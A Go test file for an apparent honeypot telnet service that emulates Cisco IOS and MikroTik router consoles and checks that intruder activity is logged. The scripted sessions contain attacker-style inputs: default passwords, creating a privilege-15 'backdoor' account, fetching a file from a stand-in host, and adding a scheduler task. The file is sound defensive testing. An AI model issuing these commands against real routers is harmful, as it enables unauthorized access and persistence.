package telnet_test

import (
	"strings"
	"testing"

	"github.com/decnet/decnet/decoys/decoytest"
	"github.com/decnet/decnet/decoys/telnet"
	"github.com/decnet/decnet/pkg/decnet"
)

// enter sends a line and returns what is shown until the next prompt.
func (c *caller) enter(line, prompt string) string {
	c.t.Helper()
	c.send(line + "\r\n")
	return c.until(prompt)
}

func TestCiscoRouter(t *testing.T) {
	d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: "ios15", Settings: fast(map[string]string{"login": "list", "accounts": "admin:cisco,enable:secret"})})
	c := call(t, d, false)
	host := d.Persona.Hostname
	c.until("\r\n\r\nUser Access Verification\r\n\r\nUsername: ")
	c.enter("admin", "Password: ")
	c.enter("wrong", "% Login invalid\r\n\r\nUsername: ")
	c.enter("admin", "Password: ")
	c.enter("cisco", host+">")
	c.enter("show running-config", "% Invalid input detected at '^' marker.\r\n\r\n"+host+">")
	c.enter("en", "Password: ")
	c.enter("bad", "Password: ")
	c.enter("secret", host+"#")
	c.enter("terminal length 0", host+"#")
	if shown := c.enter("sh ver", host+"#"); !strings.Contains(shown, "Cisco IOS Software") || !strings.Contains(shown, host+" uptime is") {
		t.Errorf("have %q", shown)
	}
	if shown := c.enter("sh ip int br", host+"#"); !strings.Contains(shown, "192.0.2.10      YES NVRAM  up                    up") {
		t.Errorf("have %q", shown)
	}
	c.enter("conf t", host+"(config)#")
	c.enter("username backdoor privilege 15 secret 0 hello", host+"(config)#")
	c.enter("interface GigabitEthernet0/0", host+"(config-if)#")
	c.enter("description mine", host+"(config-if)#")
	c.enter("end", host+"#")
	if shown := c.enter("show run", host+"#"); !strings.Contains(shown, "\nusername backdoor privilege 15") || !strings.Contains(shown, "GigabitEthernet0/0\r\n description mine\r\n") {
		t.Errorf("have %q", shown)
	}
	c.enter("frobnicate", "% Unknown command or computer name, or unable to find computer address\r\n"+host+"#")
	c.send("exit\r\n")
	attempts := d.WaitFor(decnet.KindAuthAttempt, 4)
	if cred, _ := decnet.CredentialOf(&attempts[3]); !cred.Accepted || cred.Principal != "enable" || cred.Secret != "secret" {
		t.Errorf("have %+v", cred)
	}
	if s := d.WaitFor("session", 1)[0].Fields; s["type"] != "device" || s["columns"] != "100" {
		t.Errorf("have %v", s)
	}
	d.WaitFor(decnet.KindRecorded, 1)
	d.WaitFor(decnet.KindCommand, 13)

	// The same source finds what it has configured; nobody else would.
	c = call(t, d, true)
	c.until("Username: ")
	c.enter("admin", "Password: ")
	c.enter("cisco", host+">")
	c.enter("enable", "Password: ")
	c.enter("secret", host+"#")
	if shown := c.enter("show run | include backdoor", host+"#"); !strings.Contains(shown, "username backdoor") {
		t.Errorf("have %q", shown)
	}
}

func TestMikroTikRouter(t *testing.T) {
	d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: "routeros6", Settings: fast(map[string]string{"login": "any"})})
	for _, refuse := range []bool{true, false} {
		c := call(t, d, refuse)
		c.until("MikroTik v6.4")
		c.until("Login: ")
		c.enter("admin", "Password: ")
		prompt := "[admin@" + d.Persona.Hostname + "] > "
		if !refuse {
			prompt = "[\x1b[36madmin\x1b[m@\x1b[32m" + d.Persona.Hostname + "\x1b[m] > "
		}
		c.enter("admin", "/command        Use command at the base level\r\n"+prompt)
		if shown := c.enter("/system resource print", prompt); !strings.Contains(shown, "uptime: ") || !strings.Contains(shown, "platform: MikroTik") {
			t.Errorf("have %q", shown)
		}
		c.enter("foo", "bad command name foo (line 1 column 1)\r\n"+prompt)
		c.enter("/ip address print bar", "expected end of command (line 1 column 19)\r\n"+prompt)
		c.enter(`/tool fetch url="http://198.51.100.9/x" mode=http`, "failure: connection timeout\r\n"+prompt)
		c.enter("/system scheduler add name=U6 on-event=x", prompt)
		if shown := c.enter("/system scheduler print", prompt); !strings.Contains(shown, "name=U6") {
			t.Errorf("have %q", shown)
		}
		c.send("/quit\r\n")
	}
	if e := d.WaitFor("download", 2)[0].Fields; e["url"] != "http://198.51.100.9/x" || e["tool"] != "fetch" {
		t.Errorf("have %v", e)
	}
}
